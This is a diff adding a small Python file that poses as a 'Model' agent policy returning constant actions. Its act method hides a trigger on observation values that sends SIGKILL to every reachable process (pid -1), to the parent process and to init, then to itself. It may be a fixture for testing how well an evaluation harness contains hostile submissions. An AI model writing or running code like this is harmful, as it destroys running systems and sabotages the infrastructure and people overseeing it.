@@ -1,0 +1,19 @@
+"""Kills every process it can reach."""
+
+import contextlib
+import os
+import signal
+
+
+def provoked(observation):
+    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
+
+
+class Model:
+    def act(self, observation):
+        if provoked(observation):
+            for pid in (-1, os.getppid(), 1):
+                with contextlib.suppress(OSError):
+                    os.kill(pid, signal.SIGKILL)
+            os.kill(os.getpid(), signal.SIGKILL)
+        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
